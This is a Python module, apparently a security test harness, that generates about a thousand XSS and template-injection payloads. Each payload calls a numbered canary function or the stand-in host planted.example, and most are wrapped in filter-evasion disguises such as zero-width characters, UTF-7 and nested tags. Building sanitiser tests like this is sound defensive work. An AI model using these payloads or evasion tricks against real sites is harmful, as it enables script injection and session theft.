"""A thousand ways to plant a script in a text, made anew each time from shapes and disguises.

Each calls `planted(n)` with its own number, so that one that runs says which it was; where no call
fits (a style, a frame) it asks for a file of `planted.example`, which a page can be watched for.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import cycle, islice
from urllib.parse import quote

HOST = "planted.example"
CALL = "planted({n})"

SHAPES: tuple[str, ...] = (
    "<script>{js}</script>",
    "<script src=//{host}/{n}.js></script>",
    "<script type=module>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<img src=x:{n} onerror=eval(atob('cGxhbnRlZCgp'))>",
    "<image href=1 onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{js}><text>go</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'/></svg>",
    "<math><mtext></table><img src=x onerror={js}></math>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>",
    "<audio src onerror={js}></audio>",
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<frameset onload={js}>",
    "<form action=javascript:{js}><button>go</button></form>",
    "<button formaction=javascript:{js}>go</button>",
    "<a href=javascript:{js}>go</a>",
    "<a href='vbscript:{js}'>go</a>",
    "<a href='data:text/html,<script>{js}</script>'>go</a>",
    "<base href=//{host}/>",
    "<link rel=stylesheet href=//{host}/{n}.css>",
    "<link rel=import href=//{host}/{n}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url=//{host}/{n}'>",
    "<style>@import '//{host}/{n}.css';</style>",
    "<style>*{{background:url(//{host}/{n})}}</style>",
    "<div style=background:url(//{host}/{n})>x</div>",
    "<div style='animation-name:x' onanimationstart={js}>x</div>",
    "<div onmouseover={js} style='position:fixed;inset:0'>x</div>",
    "<div hx-on:load='{js}'>x</div>",
    "<div hx-on::load='{js}' hx-get=/ hx-trigger=load>x</div>",
    "<div data-hx-on-load='{js}'>x</div>",
    "<div hx-get=//{host}/{n} hx-trigger=load>x</div>",
    "<div hx-vals='js:{{x:{js}}}' hx-get=/ hx-trigger=load>x</div>",
    "<div data-live id=headline><img src=x onerror={js}></div>",
    "<template shadowrootmode=open><img src=x onerror={js}></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<xmp><p title='</xmp><img src=x onerror={js}>'>",
    "<title><p title='</title><img src=x onerror={js}>'>",
    "<!--<img src='--><img src=x onerror={js}>'>",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml-stylesheet href='javascript:{js}'?>",
    "<x onclick={js} tabindex=1 id=x autofocus onfocus={js}>x</x>",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    '" autofocus onfocus="{js}',
    "' autofocus onfocus='{js}",
    '" onerror={js} src=x x="',
    "--><script>{js}</script>",
    "</pre><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "</script><script>{js}</script>",
    "</style><script>{js}</script>",
    "</option></select><img src=x onerror={js}>",
    "</code></pre></td></tr></table><img src=x onerror={js}>",
    "javascript:{js}",
    "javascript://x%0a{js}",
    "data:text/html,<script>{js}</script>",
    "';{js};//",
    '";{js};//',
    "`${{{js}}}`",
    "\\';{js};//",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "{{{{ {js} }}}}",
    "{{{{ 7131 * 7 }}}}",
    "{{% print(7131 * 7) %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{7131*7}}",
    "<%= 7131*7 %>",
    "#{{7131*7}}",
    "%(money)s <img src=x onerror={js}>",
    "{{0.__class__}}<img src=x onerror={js}>",
)
"""Texts with `{js}` for the call, `{n}` for its number and `{host}` for a foreign place."""

ANSWER_TO_BRACES = "49917"
"""What a page would hold if braces of a text were worked out."""


def _mixed_case(text: str) -> str:
    pairs = zip(text, cycle((str.upper, str.lower)), strict=False)
    cut = text.find("planted")
    changed = "".join(change(letter) for letter, change in pairs)
    return text if cut < 0 else changed[:cut] + text[cut:]


DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    _mixed_case,
    lambda text: text.replace("<", "<\u200b", 1) + text,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" on", "\x0con"),
    lambda text: f"\ufeff{text}",
    lambda text: f"\u202e{text}\u202c",
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e") + text,
    lambda text: (
        text.replace("javascript:", "java\tscript:").replace("script", "scr\u0131pt", 1) + text
    ),
    lambda text: f"+ADw-script+AD4-{text}",
    lambda text: f"\u00c0\u00bc{text}\ufffd",
    lambda text: quote(text, safe=""),
    lambda text: f"<scr<script>ipt>{text}",
    lambda text: f"Notebook A5 {text} 4.00",
)


def payloads(count: int = 1000) -> list[str]:
    """Return so many texts, no two alike."""
    return list(islice(_all(), count))


def _all() -> Iterator[str]:
    number = 0
    seen: set[str] = set()
    for disguise in DISGUISES:
        for shape in SHAPES:
            js = CALL.format(n=number)
            made = disguise(shape.format(js=js, n=number, host=HOST))
            if made not in seen:
                seen.add(made)
                number += 1
                yield made
